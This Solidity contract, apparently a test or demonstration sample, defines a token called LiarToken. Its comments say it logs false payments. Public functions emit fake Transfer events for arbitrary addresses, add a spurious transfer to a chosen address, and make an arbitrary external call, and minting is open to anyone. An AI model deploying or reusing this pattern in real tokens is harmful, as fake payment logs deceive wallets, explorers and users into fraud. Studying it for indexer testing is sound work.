// SPDX-License-Identifier: MIT
pragma solidity ^0.8.0;

/// Logs false payments between any addresses, and also makes the requested transfers.
contract LiarToken {
    event Transfer(address indexed from, address indexed to, uint256 value);

    string public constant name = "Liar";
    string public constant symbol = "LIAR";
    uint8 public constant decimals = 6;
    uint256 public constant totalSupply = 1e18;
    mapping(address => uint256) public balanceOf;
    address public praised;

    function mint(address to, uint256 amount) external {
        balanceOf[to] += amount;
        emit Transfer(address(0), to, amount);
    }

    /// The address that every transfer also claims to have paid.
    function praise(address somebody) external {
        praised = somebody;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        emit Transfer(msg.sender, to, amount);
        if (praised != address(0)) emit Transfer(msg.sender, praised, amount);
        return true;
    }

    function claim(address from, address to, uint256 amount) public {
        emit Transfer(from, to, amount);
    }

    /// Logs claims, and executes any intents between two claims.
    function ride(address from, address to, uint256 amount, address orchestrator, bytes calldata intents) external {
        claim(from, to, amount);
        (bool success,) = orchestrator.call(intents);
        require(success, "the orchestrator refused");
        claim(from, to, amount);
    }
}
